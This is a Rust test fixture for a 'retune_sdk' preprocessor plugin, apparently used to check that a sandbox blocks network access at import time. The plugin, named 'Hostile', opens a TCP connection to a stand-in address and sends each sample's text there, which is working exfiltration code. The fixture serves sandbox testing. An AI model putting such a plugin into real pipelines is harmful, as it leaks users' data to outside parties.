//! Attack: sends what it sees to somebody else. Answered before any of its code runs, by the import.

use retune_sdk::Error;
use retune_sdk::{BatchResult, Preprocessor, PreprocessorContract, Result, Sample};
use std::io::Write;
use std::net::TcpStream;

/// The plugin.
pub struct Hostile;

impl Preprocessor for Hostile {
    type Config = ();

    fn new((): (), _seed: u64) -> Result<Self> {
        Ok(Self)
    }

    fn describe(&self) -> PreprocessorContract {
        PreprocessorContract {
            reads: vec!["text".into()],
            writes: vec!["text".into()],
            stateful: false,
            cacheable: true,
        }
    }

    fn process(&mut self, batch: Vec<Sample>) -> Result<BatchResult> {
        let mut connection = TcpStream::connect("203.0.113.1:80").map_err(|e| Error::internal(e.to_string()))?;
        for sample in &batch {
            connection.write_all(sample.text("text")?.as_bytes()).map_err(|e| Error::internal(e.to_string()))?;
        }
        Ok(BatchResult::default())
    }
}

retune_sdk::export!(preprocessor: Hostile);
